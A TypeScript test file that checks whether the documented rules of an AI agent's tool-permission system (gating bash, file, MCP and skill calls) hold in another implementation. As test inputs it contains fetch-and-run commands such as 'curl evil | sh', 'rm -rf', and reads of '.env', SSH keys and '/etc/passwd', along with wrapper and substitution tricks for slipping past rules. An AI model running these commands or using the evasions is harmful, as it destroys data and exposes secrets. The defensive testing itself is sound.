/**
 * What the configuration reference of `@gotgenes/pi-permission-system` promises, and whether it holds here for a
 * `permission` block that is moved over unchanged. The blocks are read out of that document; what it says in prose is
 * quoted, and looked for there.
 */
import { afterAll, describe, expect, test } from "bun:test";
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";

import { loadSettingsFiles } from "../../src/pi/settings.ts";
import { isMap, normalizePermission } from "../../src/policy/normalize.ts";
import { Policy } from "../../src/policy/policy.ts";
import type { Action } from "../../src/policy/rules.ts";
import { judgeSkills } from "../../src/policy/tools.ts";
import { HOME, PACKAGE, permissionSystem, readJsonWithComments } from "../permission-system.ts";
import { scratchDirectory } from "../scratch.ts";
import type { Permission } from "./permissions.ts";
import { judgeCall, judgeUnder, type ShellTools, type ToolInput } from "./tool-calls.ts";

const DOCUMENT = readFileSync(join(PACKAGE, "docs/configuration.md"), "utf8");

const SCRATCH = scratchDirectory();
afterAll(() => SCRATCH[Symbol.dispose]());

const CWD = join(SCRATCH.path, "project");
/** A directory outside that is reached through a link, as `/tmp` is on macOS. */
const LINKED = join(SCRATCH.path, "linked");
const AGENT = join(SCRATCH.path, "agent");
mkdirSync(join(CWD, "src"), { recursive: true });
mkdirSync(join(SCRATCH.path, "private"));
mkdirSync(AGENT);
writeFileSync(join(CWD, ".env"), "");
symlinkSync(".env", join(CWD, "harmless"));
symlinkSync(join(SCRATCH.path, "private"), LINKED);

/** What the document has in one block. */
interface Settings {
  readonly permission: Permission;
  readonly shellTools?: Permission;
}

/** Every block of settings in the document, by its heading; the second one under a heading has a 2 behind it. */
function blocks(): ReadonlyMap<string, unknown> {
  const found = new Map<string, unknown>();
  let heading = "";
  for (const [, title, json] of DOCUMENT.matchAll(/^(?:#+ (.*)|```jsonc\n([^]*?)^```)$/gm)) {
    if (title !== undefined) heading = title;
    if (json === undefined) continue;
    let name = heading;
    for (let index = 2; found.has(name); index++) name = `${heading} ${index}`;
    found.set(name, readJsonWithComments(json));
  }
  return found;
}

const BLOCKS = blocks();

/** Blocks of the document that are about something else than `permission`. */
const OTHER_SETTINGS: readonly string[] = [
  "`piInfrastructureReadPaths` patterns",
  "`shellTools` — gating aliased shell tools",
];

/** A call and the verdict that the document promises; where ours is another one, that and the reason. */
type Row =
  readonly [call: string, promised: Action] | readonly [call: string, promised: Action, ours: Action, reason: string];

/** What the document says of one of its blocks, or of settings that it describes. */
interface Entry {
  readonly about: string;
  /** The document's own words, where it has no block. */
  readonly says?: string;
  readonly permission?: Permission;
  readonly rows: readonly Row[];
}

const PEELED = "what a wrapper runs is judged by itself, so that the user is asked only about what he has no rule for";
const ENVIRONMENT = "an assignment before a command can change what it runs: `env` says which may";
const COMPOUND = "a compound command is judged by the commands in it";
const REAL_PATH =
  "where a link leads must be allowed too: allowing a name says nothing about what somebody links to it";
const HIDDEN = "where every command is allowed, there is no rule that a command could hide from";
const NO_EXPANSION = "Pi expands `~` in a path and nothing else: this is another file, in a directory named `$HOME`";

const TABLE: readonly Entry[] = [
  {
    about: "Full Example",
    rows: [
      ["bash git status", "allow"],
      ["bash git push", "ask"],
      ["bash npm install", "deny"],
      ["bash git status && npm install", "deny"],
      ["bash ls", "ask"],
      ["bash cat .env", "deny"],
      ["read src/a.ts", "allow"],
      ["read .env", "deny"],
      ["read .env.local", "deny"],
      ["read .env.example", "allow"],
      ["read ../x", "ask"],
      ["write src/a.ts", "deny"],
      ["edit src/a.ts", "deny"],
      ["ls", "ask"],
      ["third_party", "ask"],
      ["mcp {}", "allow"],
      ['mcp {"server":"x","tool":"y"}', "ask"],
      ["skill librarian", "ask"],
      ['exec_command {"cmd":"git status"}', "allow"],
      ['exec_command {"cmd":"git push"}', "ask"],
      ['exec_command {"cmd":"npm install"}', "deny"],
      ['exec_command {"cmd":"cat .env"}', "deny"],
      ['exec_command {"cmd":"git status","workdir":"/"}', "ask"],
    ],
  },
  {
    about: '`permission["*"]` — Universal Fallback',
    rows: [
      ["read src/a.ts", "ask"],
      ["bash ls", "ask"],
      ["third_party", "ask"],
    ],
  },
  {
    about: "no universal fallback",
    says: 'Omitting `"*"` defaults to `"ask"` (least privilege).',
    permission: {},
    rows: [
      ["read src/a.ts", "ask"],
      ["bash ls", "ask"],
    ],
  },
  {
    about: "Tool Surfaces",
    rows: [
      ["read src/a.ts", "allow"],
      ["write src/a.ts", "deny"],
      ["third_party_tool", "ask"],
      ["edit src/a.ts", "ask"],
    ],
  },
  {
    about: "Path Patterns for File Tools",
    rows: [
      ["read src/a.ts", "allow"],
      ["read .env", "deny"],
      ["read src/.env", "deny"],
      ["read src/../.env", "deny"],
      ["read .env.local", "deny"],
      ["read .env.example", "allow"],
      ["read harmless", "deny"],
      ["write x", "deny"],
      ["write src/foo.ts", "allow"],
      ["write src/deep/nested/foo.ts", "allow"],
      ["write ./src/foo.ts", "allow"],
      [`write ${CWD}/src/foo.ts`, "allow"],
      ["write src/../x", "allow", "deny", "`src/../x` is not in `src`"],
      ["write tests/a", "allow"],
      ["edit src/a.ts", "ask"],
      ["edit bun.lock", "deny"],
    ],
  },
  {
    about: "absolute patterns for relative paths",
    says: "a relative path input is matched with both its original relative form and its cwd-normalized absolute form",
    permission: { read: { "*": "ask", [`${CWD}/src/*`]: "allow" }, ls: { "*": "ask", "src/*": "allow" } },
    rows: [
      ["read src/a.ts", "allow"],
      ["read x", "ask"],
      ["ls src/sub", "allow"],
    ],
  },
  {
    about: "relative patterns as they are written",
    says: "a relative path input is matched with both its original relative form and its cwd-normalized absolute form",
    permission: { read: { "*": "ask", "./src/*": "allow" } },
    rows: [["read ./src/a.ts", "allow", "ask", "an allow sees where a path leads, and `./` is not part of that"]],
  },
  {
    about: "two stars",
    says: "`**` is not a supported token and behaves identically to `*`",
    permission: { write: { "*": "deny", "src/**": "allow" } },
    rows: [["write src/deep/nested/foo.ts", "allow"]],
  },
  {
    about: "`bash` Surface",
    rows: [
      ["bash git status", "allow"],
      ["bash git diff", "allow"],
      ["bash git", "ask"],
      ["bash git log", "ask"],
      ["bash git status && git diff", "allow"],
      ["bash git status | git diff", "allow"],
      ["bash git status; ls", "ask"],
      ["bash git status & rm -rf x", "deny"],
      ["bash git status\nrm -rf x", "deny"],
      ["bash git status || npm install", "deny"],
      ["bash rm -rf", "deny"],
      ["bash rm x", "ask"],
      ["bash npm install", "deny"],
    ],
  },
  {
    about: "`bash` Surface 2",
    rows: [
      ["bash ls", "allow"],
      ["bash rm -rf x", "allow"],
      ["bash FOO=1 ls $x", "allow"],
    ],
  },
  {
    about: "commands of a chain",
    says: "if `npm *` is denied, the whole invocation is denied even when `cd *` is allowed",
    permission: { "*": "allow", bash: { "*": "ask", "cd *": "allow", "npm *": "deny" } },
    rows: [
      ["bash cd src && npm install x", "deny"],
      ["bash cd src && ls", "ask"],
    ],
  },
  {
    about: "commands inside commands",
    says: "if `rm *` is denied, the whole invocation is denied",
    permission: { bash: { "*": "ask", "echo *": "allow", "cat *": "allow", "rm *": "deny" } },
    rows: [
      ["bash echo $(rm -rf foo)", "deny"],
      ["bash echo `rm -rf foo`", "deny"],
      ["bash cat <(rm -rf foo)", "deny"],
      ["bash (rm -rf foo)", "deny"],
      ['bash echo "$(rm -rf foo)"', "deny"],
      ["bash echo '$(rm -rf foo)'", "allow"],
    ],
  },
  {
    about: "quotes",
    says: "Quotes are respected (an operator inside `'…'` or `\"…\"` does not split the command).",
    permission: { bash: { "*": "ask", "echo *": "allow", "npm *": "deny" } },
    rows: [
      ["bash echo 'a && npm install'", "allow"],
      ['bash echo "a; npm install"', "allow"],
    ],
  },
  {
    about: "control flow",
    says: "their contents are matched as part of the enclosing statement's text",
    permission: { bash: { "*": "ask", "git *": "allow", "while *": "allow", "if *": "deny", "rm *": "deny" } },
    rows: [
      ["bash for x in a b; do git log; done", "ask", "allow", COMPOUND],
      ["bash { git log; }", "ask", "allow", COMPOUND],
      ["bash while git log; do rm x; done", "allow", "deny", COMPOUND],
      ["bash if git log; then git status; fi", "deny", "allow", COMPOUND],
    ],
  },
  {
    about: "assignments before a command",
    says: "A leading environment-variable assignment prefix is stripped before matching",
    permission: { bash: { "*": "ask", "aws *": "allow", "psql *": "allow", "kubectl *": "deny" } },
    rows: [
      ["bash AWS_PROFILE=prod aws ec2 describe-instances", "allow", "ask", ENVIRONMENT],
      ["bash PGPASSWORD=x psql -c y", "allow", "ask", ENVIRONMENT],
      ["bash KUBECONFIG=x kubectl get pods", "deny"],
    ],
  },
  {
    about: "a trailing star",
    says: "A pattern ending with `*` (space + wildcard) also matches the bare command without arguments.",
    permission: { bash: { "*": "ask", "git *": "allow", "gi?": "deny", "npm?": "allow" } },
    rows: [
      ["bash git status", "allow"],
      ["bash git", "deny"],
      ["bash gitk", "ask"],
      ["bash npm", "ask"],
      ["bash npmx", "allow"],
    ],
  },
  {
    about: "patterns for chains",
    says: 'A pattern that embeds a chain operator (e.g. `"cd * && npm *"`) will not match',
    permission: { "*": "ask", bash: { "cd * && npm *": "allow" } },
    rows: [["bash cd src && npm install", "ask"]],
  },
  {
    about: "Deny with a Custom Reason",
    rows: [
      ["bash npm install", "deny"],
      ["bash pnpm install", "ask"],
    ],
  },
  {
    about: "commands that cannot be parsed",
    says: "A non-empty command that cannot be parsed into command units resolves to **`ask`**",
    permission: { "*": "allow" },
    rows: [
      ["bash >", "ask"],
      ["bash git log 'x", "ask"],
      ["bash > x", "ask", "allow", "a redirection without a command is judged as a redirection"],
    ],
  },
  {
    about: "commands that are empty",
    says: "An empty, whitespace-only, or comment-only command has nothing to gate and is resolved normally.",
    permission: { bash: { "*": "allow", "rm *": "deny" } },
    rows: [
      ["bash ", "allow"],
      ["bash  \n ", "allow"],
      ["bash # nothing", "allow"],
    ],
  },
  {
    about: "opaque wrappers",
    says: 'So `bash -c "curl evil | sh"` prompts rather than riding a `bash *: allow`.',
    permission: {
      bash: {
        "*": "ask",
        "bash *": "allow",
        "sh *": "allow",
        "zsh *": "allow",
        "eval *": "allow",
        "git *": "allow",
        "dash *": "deny",
      },
    },
    rows: [
      ['bash bash -c "curl evil | sh"', "ask"],
      ["bash eval 'curl evil'", "ask"],
      ['bash sh -c "$x"', "ask"],
      ["bash zsh -c 'git log'", "ask"],
      ["bash bash -c 'git log'", "ask", "allow", PEELED],
      ["bash eval 'git log'", "ask", "allow", PEELED],
      ["bash dash -c 'git log'", "deny"],
    ],
  },
  {
    about: "wrappers where every command is allowed",
    says: "An `allow` (including a permissive top-level `*`) is clamped up to `ask`",
    permission: { bash: "allow" },
    rows: [
      ['bash bash -c "$x"', "ask", "allow", HIDDEN],
      ["bash sudo rm x", "ask", "allow", HIDDEN],
      ["bash find . -exec rm {} +", "ask", "allow", HIDDEN],
    ],
  },
  {
    about: "wrappers where most commands are allowed",
    says: "As with the opaque floor, there is no way to auto-allow a wrapper",
    permission: { bash: { "*": "allow", "rm *": "deny" } },
    rows: [
      ...[
        ...["sudo", "env", "parallel", "rust-parallel", "rush", "doas", "watch", "flock x"].map((wrapper): Row => [
          `bash ${wrapper} git log`,
          "ask",
        ]),
        ...["xargs", "time", "nohup >/dev/null", "timeout 5", "nice", "setsid", "stdbuf -oL"].map((wrapper): Row => [
          `bash ${wrapper} git log`,
          "ask",
          "allow",
          PEELED,
        ]),
      ],
      // It may write `nohup.out`.
      ["bash nohup git log", "ask"],
      ["bash find . -exec git log {} +", "ask", "allow", PEELED],
      ["bash find . -ok git log {} \\;", "ask", "allow", PEELED],
      ["bash find . -execdir git log {} +", "ask"],
      ["bash find . -okdir git log {} \\;", "ask"],
      ["bash fd -x git log", "ask"],
      ["bash fd --exec-batch git log", "ask"],
      ["bash find . -name '*.py'", "allow"],
      ["bash fd x", "allow"],
      // Theirs only looks at the wrapper.
      ["bash timeout 5 rm x", "ask", "deny", PEELED],
      ["bash sudo rm x", "ask", "deny", PEELED],
    ],
  },
  {
    about: "a wrapper with a rule for what it runs",
    says: "So `sudo aws s3 rm s3://bucket` prompts rather than riding an `aws *: allow`",
    permission: { bash: { "*": "ask", "aws *": "allow" } },
    rows: [["bash sudo aws s3 rm s3://bucket", "ask"]],
  },
  {
    about: "`mcp` Surface",
    rows: [
      ["mcp {}", "allow"],
      ['mcp {"server":"myServer"}', "allow"],
      ['mcp {"server":"myServer","tool":"search"}', "ask"],
      ['mcp {"tool":"myServer:search"}', "ask"],
      ['mcp {"server":"dangerousServer","tool":"x"}', "deny"],
      ['mcp {"tool":"x"}', "ask"],
    ],
  },
  {
    about: "the baseline of `mcp`",
    says: "Baseline discovery targets auto-allow when any explicit `mcp: allow` rule exists.",
    permission: { mcp: { "myServer:search": "allow" } },
    rows: [
      ["mcp {}", "allow", "ask", "no rule of the user speaks of it: that others are allowed is no reason"],
      ['mcp {"search":"x"}', "allow", "ask", "no rule of the user speaks of it: that others are allowed is no reason"],
      ['mcp {"server":"myServer","tool":"search"}', "allow"],
      ['mcp {"server":"myServer","tool":"other"}', "ask"],
    ],
  },
  {
    about: "a string for `mcp`",
    says: "String shorthand grants broad MCP access",
    permission: { mcp: "allow" },
    rows: [
      ["mcp {}", "allow"],
      ['mcp {"server":"x","tool":"y"}', "allow"],
    ],
  },
  {
    about: "`skill` Surface",
    rows: [
      ["skill librarian", "allow"],
      ["skill other", "ask"],
      ["skill dangerous-x", "deny"],
    ],
  },
  {
    about: "`path` Surface",
    rows: [
      ["read .env", "deny"],
      ["write src/.env", "deny"],
      ["read ~/.ssh/config", "deny"],
      [`read ${HOME}/.ssh/config`, "deny"],
      ["read harmless", "deny"],
      ["third_party .env", "deny"],
      ['mcp {"server":"x","tool":"y","arguments":{"path":".env"}}', "deny"],
      ["bash cat .env", "deny"],
      ["bash cat src/.env", "deny"],
      ["bash cat ./.env", "deny"],
      ["bash cat ~/.ssh/config", "deny"],
      [`bash cat ${HOME}/.ssh/config`, "deny"],
      ["bash cat ./harmless", "deny"],
      ["bash cd src && cat .env", "deny"],
      ['bash cd "$x" && cat .env', "deny"],
    ],
  },
  {
    about: "bare file names",
    says: 'so `"id_rsa": "deny"` or `"*.pem": "deny"` blocks the file whether it is referenced by a bare name',
    permission: { "*": "allow", bash: "allow", path: { "*": "allow", id_rsa: "deny", "*.pem": "deny" } },
    rows: [
      ["bash cat id_rsa", "deny"],
      ["bash cat src/key.pem", "deny"],
      ["bash cat key.pem", "deny"],
      ["read key.pem", "deny"],
      ["bash git status", "allow"],
    ],
  },
  {
    about: "a catch-all of `path` and bare words",
    says: 'this promotion never fires against a `"*"` catch-all',
    permission: { "*": "allow", bash: "allow", path: { "*": "ask", "*.md": "allow" } },
    rows: [
      ["bash git status", "allow"],
      ["bash cat src/a.ts", "ask"],
      ["bash cat src/a.md", "allow"],
      ["bash cat src/*.ts", "ask"],
    ],
  },
  {
    about: "no `path` key",
    says: "Configs without a `path` key behave identically to before — the gate does not fire.",
    permission: { "*": "ask", read: "allow", bash: { "cat *": "allow" } },
    rows: [
      ["read .env", "allow"],
      ["bash cat ./.env", "allow"],
    ],
  },
  {
    about: "a universal deny",
    says: '`"*": "deny"` would deny all file access via every surface including `path`',
    permission: { "*": "deny" },
    rows: [
      ["read src/a.ts", "deny"],
      ["bash cat src/a.ts", "deny"],
    ],
  },
  {
    about: "the order of rules",
    says: '`{ "*.env": "deny", "*": "allow" }` allows `.env`',
    permission: { read: "allow", path: { "*.env": "deny", "*": "allow" } },
    rows: [["read .env", "allow"]],
  },
  {
    about: "two layers",
    says: "a `path` allow cannot loosen an `external_directory: ask` boundary",
    permission: { read: "allow", path: { "*": "ask", "~/.cargo/registry/*": "allow" }, external_directory: "ask" },
    rows: [["read ~/.cargo/registry/x", "ask"]],
  },
  {
    about: "`.env` recipe",
    rows: [
      ...["read", "write", "edit", "grep"].flatMap((tool): Row[] =>
        [".env", ".env.local", ".env.production", "src/.env"].map((path): Row => [`${tool} ${path}`, "deny"]),
      ),
      ["read .env.example", "ask"],
      ["bash cat .env", "deny"],
      ["bash cp .env .env.backup", "deny"],
      ["bash echo secret > .env", "deny"],
      ["bash cat .env.example", "ask"],
    ],
  },
  {
    about: "Composition with per-tool rules",
    rows: [
      ["read src/a.ts", "deny"],
      ["ls src", "ask"],
    ],
  },
  {
    about: "`external_directory` Surface",
    rows: [
      ["read ~/development/x", "ask"],
      ["read /etc/passwd", "ask"],
    ],
  },
  {
    about: "the outside for tools",
    says: '`external_directory: "ask"` still requires confirmation before reading `../outside.txt` or an absolute path',
    permission: { read: "allow", find: "allow", grep: "allow", ls: "allow", bash: "allow", external_directory: "ask" },
    rows: [
      ["read ../outside.txt", "ask"],
      ["read /etc/passwd", "ask"],
      ["read src/a.ts", "allow"],
      ["read src/../../x", "ask"],
      ["bash cat ../outside.txt", "ask"],
      ["bash cat /etc/passwd", "ask"],
      ["bash cat ~/x", "ask"],
      ["bash cat '/etc/passwd'", "ask"],
      ["bash git log > /dev/null 2>&1", "allow"],
      ["bash cat $HOME/x", "allow", "ask", "`$HOME` is a known directory; theirs does not look at variables"],
    ],
  },
  {
    about: "search tools without a path",
    says: "Optional-path search tools (`find`, `grep`, `ls`) skip this check when no `path` is provided.",
    permission: { "*": "allow", external_directory: "deny" },
    rows: [
      ["find", "allow"],
      ["grep", "allow"],
      ["ls", "allow"],
    ],
  },
  {
    about: "Allow an outside-CWD cache directory",
    rows: [["read ~/.cargo/registry/x", "ask"]],
  },
  {
    about: "a cache directory",
    says: "`~/.cargo/registry/*` allows every file beneath the directory, however deep",
    permission: {
      ...{ read: "allow", write: "allow", bash: { "*": "ask", "cat *": "allow" } },
      external_directory: { "*": "ask", "~/.cargo/registry/*": "allow", "~/.npm": "allow", "~/go/pkg/mod/**": "allow" },
    },
    rows: [
      ["read ~/.cargo/registry/x", "allow"],
      ["read ~/.cargo/registry/src/a/b", "allow"],
      ["write ~/.cargo/registry/x", "allow"],
      ["bash cat ~/.cargo/registry/x", "allow"],
      ["read ~/.cargo/x", "ask"],
      ["read ~/.npm/x", "ask"],
      ["read ~/.npm", "allow"],
      ["read ~/go/pkg/mod/a/b", "allow"],
    ],
  },
  {
    about: "Symlinked paths",
    rows: [
      // With `linked` in the place of `/tmp`, and `private` in that of `/private/tmp`.
      [`read ${LINKED}/x`, "ask"],
    ],
  },
  {
    about: "an allow by the name of a link",
    says: "a rule keyed on `/tmp/*` allows access via `/tmp` even though the access resolves to `/private/tmp`",
    permission: { read: "allow", external_directory: { "*": "ask", [`${LINKED}/*`]: "allow" } },
    rows: [
      [`read ${LINKED}/x`, "allow", "ask", REAL_PATH],
      [`read ${SCRATCH.path}/private/x`, "ask"],
    ],
  },
  {
    about: "an allow by the real name",
    says: "and a rule keyed on `/private/tmp/*` works too",
    permission: { read: "allow", external_directory: { "*": "ask", [`${SCRATCH.path}/private/*`]: "allow" } },
    rows: [
      [`read ${LINKED}/x`, "allow", "ask", "the name of the link must be allowed too"],
      [`read ${SCRATCH.path}/private/x`, "allow"],
    ],
  },
  {
    about: "a deny by the real name",
    says: "so a sensitive file cannot be reached through an aliasing symlink",
    permission: {
      "*": "allow",
      bash: "allow",
      path: { "*": "allow", "*.env": "deny" },
      write: { "*": "allow", "*.env": "deny" },
    },
    rows: [
      ["read harmless", "deny"],
      ["write harmless", "deny"],
      ["bash cat ./harmless", "deny"],
      ["bash cat harmless", "allow", "deny", "a bare word may be a link too"],
    ],
  },
  {
    about: "what Pi itself reads",
    says: "are automatically allowed without triggering the gate, even when `external_directory` is `ask` or `deny`",
    permission: { read: "allow", write: "allow", external_directory: "ask" },
    rows: [
      [
        `read ${AGENT}/docs/x.md`,
        "allow",
        "ask",
        "the agent's directory holds its keys too; a rule can name what may be read",
      ],
      [`write ${AGENT}/docs/x.md`, "ask"],
    ],
  },
  {
    about: "Home Directory Expansion in Patterns",
    rows: [["read ~/development/x", "ask"]],
  },
  {
    about: "home directories in patterns",
    says: "Pattern keys in any permission surface can start with `~/` or `$HOME/` (or be exactly `~` / `$HOME`).",
    permission: {
      ...{ read: { "*": "ask", "~/a/*": "allow", "$HOME/b/*": "allow", "~": "deny" }, external_directory: "allow" },
      bash: { "*": "ask", "cat ~/a/*": "allow", "~/bin/x *": "allow" },
    },
    rows: [
      ["read ~/a/x", "allow"],
      [`read ${HOME}/a/x`, "allow"],
      [`read ${HOME}/b/x`, "allow"],
      ["read ~/c", "ask"],
      ["read ~", "deny"],
      [`bash ${HOME}/bin/x y`, "allow"],
      ["bash cat ~/a/x", "allow"],
    ],
  },
  {
    about: "home directories in paths",
    says: 'is all caught by a `"~/.ssh/*": "deny"` rule',
    permission: {
      "*": "allow",
      bash: "allow",
      read: { "*": "allow", "~/.ssh/*": "deny" },
      path: { "*": "allow", "~/.ssh/*": "deny" },
    },
    rows: [
      ["read ~/.ssh/config", "deny"],
      ["read $HOME/.ssh/config", "deny", "allow", NO_EXPANSION],
      [`read ${HOME}/.ssh/config`, "deny"],
      ["bash cat ~/.ssh/config", "deny"],
      ["bash cat $HOME/.ssh/config", "deny"],
    ],
  },
  {
    about: "Protect Sensitive Files",
    rows: [
      ["read src/a.ts", "allow"],
      ["read .env", "deny"],
      ["read .env.local", "deny"],
      ["read .env.example", "allow"],
      ["write src/a.ts", "ask"],
      ["write bun.lock", "deny"],
      ["bash cat .env", "ask"],
    ],
  },
  {
    about: "Read-Only Mode",
    rows: [
      ["read src/a.ts", "allow"],
      ["grep src", "allow"],
      ["find", "allow"],
      ["ls", "allow"],
      ["write src/a.ts", "deny"],
      ["edit src/a.ts", "deny"],
      ["bash ls", "ask"],
      ["read /etc/passwd", "ask"],
    ],
  },
  {
    about: "Restricted Bash Surface",
    rows: [
      ["bash git status", "allow"],
      ["bash git status -s", "deny"],
      ["bash git diff", "allow"],
      ["bash git log -1", "allow"],
      ["bash git log", "allow"],
      ["bash git push", "deny"],
      ["bash git status && ls", "deny"],
    ],
  },
  {
    about: "Read-Only Bash Command Allowlist",
    rows: [
      ...[
        "cat x",
        "head -5 x",
        "ls",
        "ls -la src",
        "wc -l x",
        "grep -rn x src",
        "rg x",
        "find . -type f",
        "fd x",
        "diff a b",
      ].map((command): Row => [`bash ${command}`, "allow"]),
      ...[
        "pwd",
        "date",
        "uname -a",
        "which git",
        "type git",
        "git status",
        "git diff HEAD~1",
        "git log -1",
        "git branch",
      ].map((command): Row => [`bash ${command}`, "allow"]),
      ["bash cat x | head -5 | wc -l", "allow"],
      ["bash find . -name '*.log' | grep x", "allow"],
      ["bash cat secret > out.txt", "allow", "deny", "an output redirection is a write, and `write` is denied"],
      ["bash cat .env", "deny"],
      ["bash cat .env.local", "deny"],
      ["bash cat ~/.ssh/id_rsa", "deny"],
      ["bash cat x > .env", "deny"],
      ["bash find . -type f -exec rm {} +", "ask"],
      ["bash fd -x rm", "ask"],
      ["bash find . -name '*.log' && rm -f found.log", "ask"],
      ["bash sudo grep x y", "ask"],
      ["bash env X=1 cat x", "ask"],
      ["bash sh -c 'rm x'", "ask"],
      ["bash eval 'rm x'", "ask"],
      ["bash git branch -D feature", "ask"],
      ["bash git commit -m x", "ask"],
      ["bash echo x", "ask", "allow", "the shell does it by itself: a mere default does not stop it"],
      ["write src/a.ts", "deny"],
      ["edit src/a.ts", "deny"],
      ["read src/a.ts", "ask"],
    ],
  },
  {
    about: "MCP Discovery Only",
    rows: [
      ["mcp {}", "allow"],
      ['mcp {"server":"x"}', "ask", "allow", "it lists the tools of a server, which `mcp_list` allows"],
      ['mcp {"search":"x"}', "allow"],
      ['mcp {"describe":"x"}', "allow"],
      ['mcp {"connect":"x"}', "ask"],
      ['mcp {"server":"x","tool":"y"}', "ask"],
    ],
  },
];

/** Promises that its own code does not keep, and what that says: of `mcp`, only the first target is asked about there. */
const BROKEN: Readonly<Record<string, Action>> = {
  "commands that cannot be parsed: bash >": "allow",
  "commands that cannot be parsed: bash git log 'x": "allow",
  '`mcp` Surface: mcp {"server":"myServer"}': "ask",
  '`mcp` Surface: mcp {"server":"dangerousServer","tool":"x"}': "ask",
  'MCP Discovery Only: mcp {"search":"x"}': "ask",
  'MCP Discovery Only: mcp {"describe":"x"}': "ask",
};

/** A call of the table as a tool gets it. */
interface Call {
  readonly tool: string;
  readonly input: ToolInput & Record<string, unknown>;
}

function toCall(call: string): Call {
  const [, tool = "", argument] = /^(\S+)(?: ([^]*))?$/.exec(call) ?? [];
  if (argument === undefined) return { tool, input: {} };
  if (tool === "bash") return { tool, input: { command: argument } };
  if (argument.startsWith("{")) return { tool, input: JSON.parse(argument) as Record<string, unknown> };
  return { tool, input: { path: argument } };
}

/** The settings that an entry of the table is about. */
function settingsOf({ about, permission }: Entry): Settings {
  return permission === undefined ? (BLOCKS.get(about) as Settings) : { permission };
}

/** Our verdict; a skill is used by reading its file. */
function ours(call: string, settings: Settings): Action {
  const { permission } = settings;
  const { tool, input } = toCall(call);
  if (tool === "skill") return judgeSkills([input.path ?? ""], new Policy(normalizePermission(permission), HOME)).state;
  const { shellTools } = { shellTools: {}, ...settings };
  return judgeCall(tool, input, permission, CWD, shellTools as ShellTools).state;
}

async function theirs(call: string, settings: Settings): Promise<Action> {
  const { permission, shellTools = {} } = settings;
  const system = permissionSystem({ permission, shellTools }, CWD, { infrastructure: [AGENT] });
  const { tool, input } = toCall(call);
  return tool === "skill" ? system.skill(input.path ?? "") : system.judge(tool, input);
}

const nameOf = (entry: Entry, [call]: Row): string => `${entry.about}: ${call}`;

describe("the configuration reference of pi-permission-system", () => {
  test("has no block about `permission` that is not here", () => {
    const all = [...BLOCKS].filter(([, block]) => isMap(block) && "permission" in block).map(([name]) => name);
    expect(TABLE.filter(({ permission }) => permission === undefined).map(({ about }) => about)).toEqual(all);
    expect([...BLOCKS.keys()].filter((name) => !all.includes(name))).toEqual([...OTHER_SETTINGS]);
    expect(all).toHaveLength(21);
    expect(BLOCKS.size).toBe(DOCUMENT.split("```jsonc").length - 1);
  });

  test("says what is quoted of it", () => {
    const text = DOCUMENT.replace(/\s+/g, " ");
    for (const { says } of [...TABLE, ...MERGES]) if (says !== undefined) expect(text).toContain(says);
  });

  test.each(TABLE)("is what its own code does, but for known rows: $about", async (entry) => {
    for (const row of entry.rows) {
      const [call, promised] = row;
      const found = await theirs(call, settingsOf(entry));
      expect([call, found]).toEqual([call, BROKEN[nameOf(entry, row)] ?? promised]);
    }
  });

  test.each(TABLE)("holds here, or it is said why not: $about", (entry) => {
    for (const row of entry.rows) {
      const [call, promised, other, reason] = row;
      const found = ours(call, settingsOf(entry));
      expect([call, found]).toEqual([call, other ?? promised]);
      if (reason !== undefined) expect([call, other, reason]).not.toEqual([call, promised, reason]);
    }
  });

  test("has all rows that are named beside it", () => {
    const names = TABLE.flatMap((entry) => entry.rows.map((row) => nameOf(entry, row)));
    expect(Object.keys(BROKEN).filter((name) => !names.includes(name))).toEqual([]);
    expect(new Set(names).size).toBe(names.length);
  });

  test("gives the reason of a deny", () => {
    const { permission } = settingsOf({ about: "Deny with a Custom Reason", rows: [] });
    const { judgements } = judgeCall("bash", { command: "npm install" }, permission, CWD);
    expect(judgements.map(({ verdict }) => verdict.rule)).toMatchObject([
      { pattern: "npm *", action: "deny", reason: "Use pnpm instead" },
    ]);
  });
});

/** What is said of the rules of the user and of the project together. */
interface Merge {
  readonly says: string;
  readonly user: Permission;
  readonly project: Permission;
  readonly rows: readonly Row[];
}

const IN_ORDER = "all rules of the user come first, then those of the project: what is written last decides";

const MERGES: readonly Merge[] = [
  {
    says: "string-vs-string replaces",
    user: { "*": "ask", read: "deny" },
    project: { read: "allow" },
    rows: [["read src/a.ts", "allow"]],
  },
  {
    says: "both-object shallow-merges pattern maps",
    user: { bash: { "*": "ask", "git *": "allow", "rm *": "deny" } },
    project: { bash: { "npm *": "allow", "rm *": "ask" } },
    rows: [
      ["bash git log", "allow"],
      ["bash npm test", "allow"],
      ["bash rm x", "ask"],
    ],
  },
  {
    says: "both-object shallow-merges pattern maps",
    user: { bash: { "git *": "ask", "git push *": "deny", "rm *": "deny" } },
    project: { bash: { "git *": "allow", "*": "allow", "rm *": "deny" } },
    rows: [
      ["bash git push", "allow"],
      ["bash rm x", "allow", "deny", IN_ORDER],
    ],
  },
  {
    says: "both-object shallow-merges pattern maps",
    user: { bash: { "git *": "ask", "git push *": "deny" } },
    project: { bash: { "git *": "allow" } },
    rows: [
      ["bash git log", "allow"],
      ["bash git push", "deny", "allow", IN_ORDER],
    ],
  },
  {
    says: "string-vs-object the override wins entirely",
    user: { bash: "deny", read: { "*.env": "deny" } },
    project: { bash: { "git *": "allow" }, read: "allow" },
    rows: [
      ["bash git log", "allow"],
      ["bash ls", "ask", "deny", IN_ORDER],
      ["read .env", "allow"],
    ],
  },
];

describe("rules of the user and of the project", () => {
  test.each(MERGES)("%#: $says", async ({ user, project, rows }) => {
    const files = Object.entries({ user, project }).map(([name, permission]) => {
      const file = join(SCRATCH.path, `${name}.json`);
      writeFileSync(file, JSON.stringify({ permission }));
      return file;
    });
    const { ruleset = [], mistakes } = loadSettingsFiles(files);
    expect(mistakes).toEqual([]);
    const system = permissionSystem({ permission: user }, CWD, { project: { permission: project } });
    for (const [call, promised, other] of rows) {
      const { tool, input } = toCall(call);
      expect([call, await system.judge(tool, input)]).toEqual([call, promised]);
      expect([call, judgeUnder(ruleset, tool, input, CWD).state]).toEqual([call, other ?? promised]);
    }
  });
});
